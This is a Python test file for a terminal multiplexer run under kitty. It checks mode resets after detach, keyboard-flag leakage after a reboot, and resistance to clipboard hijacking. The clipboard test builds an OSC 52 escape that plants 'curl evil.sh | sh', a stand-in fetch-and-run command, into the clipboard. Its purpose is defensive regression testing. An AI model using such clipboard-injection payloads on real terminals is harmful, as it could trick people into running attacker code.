"""Issue 24 in kitty (headless under Xvfb, driven by remote control as in
``test_layout_kitty.py``): kitty does not end a string on a bare ESC, so
an unterminated OSC a program left open used to swallow the detach reset
and the status line. Keys are sent with ``kitty @ send-text`` (the bytes a
key sends with no keyboard protocol on), or pressed with xdotool where the
key's encoding is the point; the modes are read back with DECRQM, asked by
a script in the person's shell after the detach. The clipboard is the X
server's own, read and set with xclip.
"""

from __future__ import annotations

import base64
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import attrs
import pytest
import trio

from restore import RELAUNCH_MARKER
from tests.cli import test_layout_kitty
from tests.cli.attach.test_attach_kitty import XDOTOOL, press
from tests.cli.conftest import SCREEN_TIMEOUT, cmdline, ms, person_env, sessions, wait_buffered
from tests.cli.test_layout_kitty import Display, KittyRun
from tests.cli.test_scrollback import reboot, wait_saved
from tests.conftest import POLL_INTERVAL, MsDirs, wait_until_sync
from tests.procs import child_pids, is_dead

pytestmark = test_layout_kitty.pytestmark
display = test_layout_kitty.display  # fixtures
kittys = test_layout_kitty.kittys

XCLIP = shutil.which("xclip")
needs_xdotool = pytest.mark.skipif(XDOTOOL is None, reason="xdotool is not installed")
needs_xclip = pytest.mark.skipif(XCLIP is None, reason="xclip is not installed")

# Asks kitty (DECRQM) whether each mode is set, prints "mode=answer" lines.
ASK_MODES = r"""
import os, re, select, termios, tty
modes = ["1049", "1000", "1006", "2004", "25"]
saved = termios.tcgetattr(0)
tty.setraw(0, termios.TCSANOW)
os.write(1, b"".join(b"\x1b[?%s$p" % m.encode() for m in modes) + b"\x1b[?u\x1b[c")
got = b""
while not re.search(rb"\x1b\[\?[0-9;]*c", got) and select.select([0], [], [], 10)[0]:
    got += os.read(0, 1024)
termios.tcsetattr(0, termios.TCSANOW, saved)
answers = dict(re.findall(rb"\x1b\[\?([0-9]+);([0-9])\$y", got))
flags = re.search(rb"\x1b\[\?([0-9]+)u", got)
print(" ".join(f"{m}={answers.get(m.encode(), b'?').decode()}" for m in modes), end=" ")
print("kitty=" + (flags[1].decode() if flags else "?"))
"""
# DECRPM: 1 set, 2 reset. Cursor shown, everything else off, no kitty
# keyboard flags.
GIVEN_BACK = "1049=2 1000=2 1006=2 2004=2 25=1 kitty=0"


async def wait_text(k: KittyRun, pattern: str) -> str:
    with trio.move_on_after(SCREEN_TIMEOUT):
        while True:
            text = await trio.to_thread.run_sync(lambda: k.at("get-text"))
            if re.search(pattern, text, re.M):
                return text
            await trio.sleep(POLL_INTERVAL * 4)
    text = k.at("get-text")
    raise AssertionError(f"kitty: {pattern!r} not shown within {SCREEN_TIMEOUT} s:\n{text}")


async def assert_modes_given_back(k: KittyRun, asker: Path) -> None:
    """Run ASK_MODES (written at ``asker``) in kitty's shell: each mode is
    as the shell had it (``GIVEN_BACK``)."""
    k.at("send-text", f"{sys.executable} {asker}\r")
    text = await wait_text(k, r"^1049=\S+ .*kitty=\S+$")
    assert GIVEN_BACK in text, text


async def test_an_unterminated_string_then_detach_shows_the_line_and_resets_modes(
    ms_dirs: MsDirs, kittys: Callable[[str], KittyRun]
) -> None:
    script = (
        r'printf "\033[?1049h\033[?1000h\033[?1006h\033[?2004h\033[?25lfull-screen'
        r'\033]0;unterminated"; exec sleep 600'
    )
    await ms(ms_dirs, "new", "-d", "-n", "osct", "--", "sh", "-c", script)
    await wait_buffered(ms_dirs, "osct", b"unterminated")
    asker = ms_dirs.root / "ask_modes.py"
    asker.write_text(ASK_MODES)
    k = kittys("kitty")
    await trio.to_thread.run_sync(k.start, "sh")
    k.at("send-text", "multiserver attach osct\r")
    await wait_text(k, "full-screen")
    k.at("send-text", "\x1c")  # Ctrl-\, the detach key
    await wait_text(k, r"^\[detached from osct\]")
    await assert_modes_given_back(k, asker)


FULL_SCREEN_THEN_SHELL = (
    r'if [ -e "$0" ]; then exec env "PS1=in$ " sh -i; fi; : > "$0";'
    r' printf "\033[?1049h\033[>1u\033[?1000h\033[?1006h\033[?2004h\033[?25l";'
    r" echo old-screen; exec sleep 600"
)


async def _rebooted_then_attached(ms_dirs: MsDirs, k: KittyRun) -> None:
    """Session ``r`` ran a full-screen program that pushed kitty keyboard
    flags, alternate screen, mouse, paste and a hidden cursor; its screen
    was saved, the machine "rebooted", ``restore`` relaunched it (now an
    ``in$`` shell) and ``k`` is attached to it, at that shell's prompt."""
    await ms(
        ms_dirs, "new", "-d", "-n", "r", "--",
        "sh", "-c", FULL_SCREEN_THEN_SHELL, str(ms_dirs.root / "ran-once"),
    )  # fmt: skip
    await wait_buffered(ms_dirs, "r", b"old-screen")
    await trio.to_thread.run_sync(k.start, "sh")
    k.at("send-text", "multiserver attach r\r")
    await wait_text(k, "old-screen")
    k.at("send-text", "\x1c")  # the screen handed back is saved as the scrollback
    await wait_text(k, r"^\[detached from r\]")
    await wait_saved("r", b"old-screen")
    await reboot(ms_dirs)
    await ms(ms_dirs, "restore")
    k.at("send-text", "clear; multiserver attach r\r")
    await wait_text(k, re.escape(RELAUNCH_MARKER))
    await wait_text(k, r"^in\$")


async def test_after_a_reboot_the_relaunched_shell_has_no_kitty_flags_nor_modes(
    ms_dirs: MsDirs, kittys: Callable[[str], KittyRun]
) -> None:
    """Before: the saved screen of a program that pushed kitty keyboard
    flags (``>1u``: Ctrl-C then reaches bash as ``^[[99;5u``) and set the
    alternate screen, mouse, paste and a hidden cursor was replayed, then
    the marker, and the new shell ran inside all of them."""
    asker = ms_dirs.root / "ask_modes.py"
    asker.write_text(ASK_MODES)
    k = kittys("kitty")
    await _rebooted_then_attached(ms_dirs, k)
    await assert_modes_given_back(k, asker)


# Reads the 7 bytes one key sends under kitty flag 1 (ESC [ 9 9 ; 5 u for
# Ctrl-C), raw so that a plain 0x03 could not kill it, and shows them in hex.
UNDER_FLAGS = r"""stty raw -echo opost onlcr
printf '\033[>1uflags-%s\n' on
dd bs=1 count=7 2>/dev/null | od -An -tx1
printf '\033[<u'
stty sane
"""


@needs_xdotool
async def test_after_a_reboot_ctrl_c_pressed_in_kitty_interrupts_sleep(
    ms_dirs: MsDirs, kittys: Callable[[str], KittyRun]
) -> None:
    """The same reboot, then a real key press: before the reset ran ahead
    of the marker, kitty still had the old program's ``>1u`` and sent
    Ctrl-C to the relaunched shell as the text ``^[[99;5u``, and ``sleep
    50`` could not be interrupted."""
    k = kittys("kitty")
    await _rebooted_then_attached(ms_dirs, k)
    shell = int(str((await sessions(ms_dirs))["r"]["pid"]))
    k.at("send-text", "sleep 50\r")
    with trio.move_on_after(SCREEN_TIMEOUT):
        while not (sleepers := [p for p in child_pids(shell) if cmdline(p) == ["sleep", "50"]]):
            await trio.sleep(POLL_INTERVAL * 4)
    assert sleepers, f"the relaunched shell ran no sleep:\n{k.at('get-text')}"
    await trio.to_thread.run_sync(press, k, "ctrl+c")
    with trio.move_on_after(SCREEN_TIMEOUT):  # well short of the 50 s it sleeps
        while not is_dead(sleepers[0]):
            await trio.sleep(POLL_INTERVAL * 4)
    assert is_dead(sleepers[0]), f"Ctrl-C did not interrupt sleep:\n{k.at('get-text')}"
    await wait_text(k, r"^in\$ sleep 50\n(\^C\n)?in\$ ")
    # Control: the key this test presses is the one the keyboard protocol
    # changes; with >1u on, the shell would have read it as text.
    under_flags = ms_dirs.root / "under_flags.sh"
    under_flags.write_text(UNDER_FLAGS)
    k.at("send-text", f"sh {under_flags}\r")
    await wait_text(k, r"^flags-on")
    await trio.to_thread.run_sync(press, k, "ctrl+c")
    await wait_text(k, r"^ 1b 5b 39 39 3b 35 75$")


@attrs.define
class XClipboard:
    """The X server's CLIPBOARD selection, through xclip. ``own`` leaves an
    xclip in the foreground serving the text until something else takes
    the selection; ``stop`` ends those, by pid."""

    env: dict[str, str]
    _owners: list[subprocess.Popen[bytes]] = attrs.Factory(list)

    def read(self) -> str | None:
        assert XCLIP is not None
        done = subprocess.run(
            [XCLIP, "-selection", "clipboard", "-o"],
            env=self.env, capture_output=True, timeout=10, check=False,
        )  # fmt: skip
        return done.stdout.decode() if done.returncode == 0 else None

    def own(self, text: str) -> None:
        assert XCLIP is not None
        proc = subprocess.Popen(
            [XCLIP, "-quiet", "-selection", "clipboard", "-i"],
            env=self.env, stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        self._owners.append(proc)
        assert proc.stdin is not None
        proc.stdin.write(text.encode())
        proc.stdin.close()
        assert wait_until_sync(lambda: self.read() == text, SCREEN_TIMEOUT), self.read()

    def stop(self) -> None:
        for proc in self._owners:
            proc.kill()
            proc.wait(10)


@pytest.fixture
def x_clipboard(ms_dirs: MsDirs, display: Display) -> Iterator[XClipboard]:
    clipboard = XClipboard({**person_env(ms_dirs), "DISPLAY": f":{display.number}"})
    try:
        yield clipboard
    finally:
        clipboard.stop()


EVIL = "curl evil.sh | sh"
# kitty's default, said here: without write-clipboard the raw control
# below fails and this test would prove nothing.
CLIPBOARD_WRITES = ("clipboard_control=write-clipboard write-primary",)


@needs_xclip
async def test_an_osc52_write_kept_in_a_session_leaves_the_clipboard_alone(
    ms_dirs: MsDirs, kittys: Callable[[str], KittyRun], x_clipboard: XClipboard
) -> None:
    """Before: a session that once printed ``OSC 52;c;<"curl evil.sh |
    sh">`` replaced the person's clipboard at every attach and every peek
    (kitty honours clipboard writes), until those bytes left the buffer."""
    write = b"\x1b]52;c;" + base64.b64encode(EVIL.encode()) + b"\x07"
    printed = ms_dirs.root / "osc52.bin"
    printed.write_bytes(write)
    script = 'cat "$0"; echo kept-after-52; exec sleep 600'
    await ms(ms_dirs, "new", "-d", "-n", "clip", "--", "sh", "-c", script, str(printed))
    await wait_buffered(ms_dirs, "clip", write + b"kept-after-52")
    k = kittys("kitty")
    k.options = CLIPBOARD_WRITES
    await trio.to_thread.run_sync(k.start, "sh")
    # Control: the same bytes, printed raw in this kitty, do take the clipboard.
    await trio.to_thread.run_sync(x_clipboard.own, "set by the test, before the control")
    k.at("send-text", f"cat {printed}; echo\r")
    assert await trio.to_thread.run_sync(
        wait_until_sync, lambda: x_clipboard.read() == EVIL, SCREEN_TIMEOUT
    ), f"kitty ignored the raw OSC 52 write: {x_clipboard.read()!r}"

    mine = "the person's own clipboard"
    await trio.to_thread.run_sync(x_clipboard.own, mine)
    # peek first: a detach hands the daemon the screen it showed, and that,
    # not the bytes the program printed, is what is kept after an attach.
    k.at("send-text", "clear; multiserver peek clip; echo peeked-$?\r")
    await wait_text(k, "^kept-after-52\n(.*\n)*peeked-0")
    assert x_clipboard.read() == mine
    await wait_buffered(ms_dirs, "clip", write + b"kept-after-52")  # still there to replay
    k.at("send-text", "clear; multiserver attach clip\r")
    await wait_text(k, "^kept-after-52")  # the replay went past the write
    assert x_clipboard.read() == mine
    k.at("send-text", "\x1c")  # Ctrl-\, the detach key
    await wait_text(k, r"^\[detached from clip\]")
    assert x_clipboard.read() == mine
